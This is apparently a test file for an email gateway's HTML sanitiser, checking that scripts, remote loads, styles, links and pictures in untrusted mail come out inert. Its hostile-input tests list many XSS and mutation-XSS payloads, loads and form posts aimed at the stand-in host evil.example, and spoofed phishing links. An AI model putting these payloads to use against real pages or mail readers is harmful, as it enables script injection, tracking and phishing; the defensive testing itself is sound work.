"""HTML of strangers written anew: nothing runs, leads anywhere or is fetched, and people read what was meant."""

from __future__ import annotations

import base64
import html.parser
import re

from hypothesis import given, settings
from hypothesis import strategies as st
from twisted.trial.unittest import SynchronousTestCase

from smtpgate.examine import sanitised as it
from smtpgate.examine.sanitised import raster, sanitised
from tests.admin_kit import HOSTILE

PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 20
#: Attributes that may stand in what is written, and no others.
MAY = {*it._ATTRIBUTES, "style", "class", "alt", "src", "lang", "charset", "name", "content"}


class Reader(html.parser.HTMLParser):
    """What a reader of HTML finds in it."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def body(text: str, **pictures: bytes) -> str:
    """What is written in the block that stands for the body."""
    whole = sanitised(text, lambda name: pictures.get(name)).html
    return whole.partition("<body><div>")[2].removesuffix("</div></body></html>")


def check(case: SynchronousTestCase, text: str) -> None:
    """Whatever it was made of: elements and attributes of the lists, no address but that of a picture inside."""
    found = Reader(sanitised(text).html)
    for tag, said in found.tags:
        case.assertNotIn(tag, it._DROPPED - {"head", "meta", "title", "style"}, text)
        case.assertLessEqual(set(said), MAY, text)
        case.assertRegex(said.get("src") or "data:image/png;base64,", r"^data:image/(png|jpeg|gif|webp);base64,")
        case.assertNotRegex(said.get("style") or "", r"(?i)url|expression|@|\\|/\*|position|behavior|binding")
    case.assertEqual([tag for tag, _ in found.tags].count("style"), 1, text)
    case.assertEqual([tag for tag, _ in found.tags].count("meta"), 2, text)


class HostileTests(SynchronousTestCase):
    """What is written to hurt."""

    def test_S_25_nothing_that_runs_or_loads(self) -> None:
        """Each of them leaves text at most."""
        for text in (
            *HOSTILE,
            "<script>a</script><style>@import 'x'</style>",
            "<img src=http://evil.example/p.gif srcset='http://evil.example/2x 2x'>",
            "<img src='cid:a' onerror=alert(1)><img src=/held/x><img src=//evil.example/>",
            "<div style='background:url(http://evil.example/)'>x</div>",
            "<div style='background:u\\72l(http://evil.example/)'>x</div>",
            "<div style='color:red;position:fixed;behavior:url(x);width:expression(alert(1))'>x</div>",
            '<div style="font-family:\';}body{background:url(x)}">x</div>',
            "<a href='javascript:alert(1)' ping=http://evil.example/ target=_top>x</a>",
            "<base href=http://evil.example/><meta http-equiv=refresh content='0;url=http://evil.example/'>",
            "<link rel=prefetch href=http://evil.example/><link rel=stylesheet href=http://evil.example/>",
            "<iframe srcdoc='<script>1</script>'></iframe><object data=x></object><embed src=x>",
            "<form action=http://evil.example/><input name=p type=password><button formaction=x>go</button></form>",
            "<svg><script>1</script><image href=http://evil.example/ /><foreignObject><p>x</foreignObject></svg>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
            "<template><img src=x onerror=alert(1)></template>",
            "<table background=http://evil.example/><td background=http://evil.example/>x",
            "<video poster=http://evil.example/ src=x autoplay></video><audio src=x>",
            "<body onload=alert(1) background=http://evil.example/>x",
            "<p id=x class=y name=z accesskey=a tabindex=1 contenteditable>x",
            "<![CDATA[<script>1</script>]]><?php x ?><!--[if IE]><script>1</script><![endif]-->",
            "<plaintext><script>1</script>",
            "<textarea></textarea><xmp><script>1</script></xmp><title></title><style></style>",
            "\0<scr\0ipt>1</scr\0ipt>",
        ):
            check(self, text)

    @settings(max_examples=60, deadline=None)
    @given(
        st.lists(
            st.sampled_from(
                ["<a ", "href=", "'", '"', ">", "<img src=", "data:", "cid:x", "<svg>", "</svg>", "<style>", "</style>"]
                + ["<script>", "</script>", "style=", "url(", ")", ";", "<!--", "-->", "<math>", "&lt;", "x", " on=1"]
                + ["<table>", "<td>", "<template>", "<noscript>", "</p>", "<p>", "\\", "/", "<mglyph>", "<title>"]
            ),
            max_size=30,
        )
    )
    def test_S_24_anything(self, pieces: list[str]) -> None:
        """In any mixture."""
        check(self, "".join(pieces))

    def test_S_24_too_deep_too_long(self) -> None:
        """It comes to an end, with all tags closed, and what was left out is told."""
        deep = sanitised("<div>" * 5000 + "in the middle")
        self.assertIn("in the middle", deep.html)
        self.assertEqual(deep.html.count("<div>"), deep.html.count("</div>"))
        self.assertLessEqual(deep.html.count("<div>"), it.DEPTH)
        long = sanitised("<p>" + "x" * (it.LETTERS + 1))
        self.assertTrue(long.is_cut)
        self.assertFalse(sanitised("<p>x").is_cut)
        many = sanitised("<b><i>" * 20_000)
        self.assertLess(len(many.html), it.OCTETS + 10_000)


class ShownTests(SynchronousTestCase):
    """What is honest."""

    def test_S_25_layout(self) -> None:
        """Text, tables and colours are kept; blocks of other names are blocks."""
        self.assertEqual(
            body('<section><p style="color:#f00;margin:0 !important">a<br>b &lt;c&gt;</p></section>'),
            '<div><p style="color:#f00;margin:0">a<br>b &lt;c&gt;</p></div>',
        )
        found = body('<table width="100%" border=1 height=9e9><tr><td colspan=2 align=center bgcolor="#fff">x</table>')
        self.assertIn('<table width="100%" border="1">', found)
        self.assertIn('<td colspan="2" align="center" bgcolor="#fff">x</td>', found)

    def test_links_are_text_with_their_host(self) -> None:
        """Whatever they say of themselves."""
        for href, host in (
            ("https://paypa1.com/login", "paypa1.com"),
            ("https://www.example.com@evil.example/", "evil.example"),
            ("http:\\\\evil.example\\x", "evil.example"),
            ("//evil.example/x", "evil.example"),
            ("mailto:a@evil.example", "mailto:a@evil.example"),
            ("JavaScript:alert(1)", "javascript:"),
            ("ftp://evil.example/", "ftp:evil.example"),
        ):
            made = sanitised(f'<a href="{href}">www.example.com</a>')
            expected = f'<span class="lead">www.example.com</span><span class="host">{host}</span>'
            self.assertIn(expected, made.html)
            self.assertEqual(made.links, 1)
            self.assertNotIn("href", made.html)
        self.assertEqual(body('<a href="#top">up</a><a name=x>y</a>').count("host"), 0)

    def test_S_25_pictures(self) -> None:
        """Those of the message and of the page, by their octets; no others."""
        shown = base64.b64encode(PNG).decode()
        self.assertIn(f'src="data:image/png;base64,{shown}"', body('<img src="CID:a" width=4 alt="x">', a=PNG))
        self.assertIn(f'src="data:image/png;base64,{shown}"', body(f'<img src="data:image/gif;base64,{shown}">'))
        svg = base64.b64encode(b"<svg onload=alert(1)>").decode()
        for source in (
            "cid:b",
            f"data:image/png;base64,{svg}",
            f"data:image/svg+xml;base64,{svg}",
            "http://x.example/",
        ):
            made = sanitised(f'<img src="{source}" alt="a logo">', lambda name: b"<svg>" if name == "b" else None)
            self.assertNotIn("<img", made.html)
            self.assertIn("picture not shown: a logo", made.html)
            self.assertEqual(made.away, 1)
        self.assertEqual(raster(b"RIFF\0\0\0\0WEBPVP8 "), "image/webp")
        self.assertEqual(raster(b"\xff\xd8\xff\xe0"), "image/jpeg")
        self.assertEqual(raster(b"%PDF-1.7"), "")

    def test_pictures_have_an_end(self) -> None:
        """Ten large ones: not all are shown, and the rest of the page is."""
        large = PNG + b"\0" * (it.PICTURE_OCTETS // 3)
        made = body('<img src="cid:a">' * 10 + "<p>the end", a=large)
        self.assertEqual((made.count("<img"), made.count("picture not shown")), (2, 8))
        self.assertIn("the end", made)

    def test_letters_that_turn_others_round(self) -> None:
        """And controls: a sign stands for them."""
        self.assertEqual(body("a\u202ecod.exe\u2066\x07"), "a\ufffdcod.exe\ufffd\ufffd")

    def test_S_24_its_own_page(self) -> None:
        """Is one that a browser takes as it stands."""
        self.assertTrue(re.match(r"<!doctype html><html", sanitised("").html))
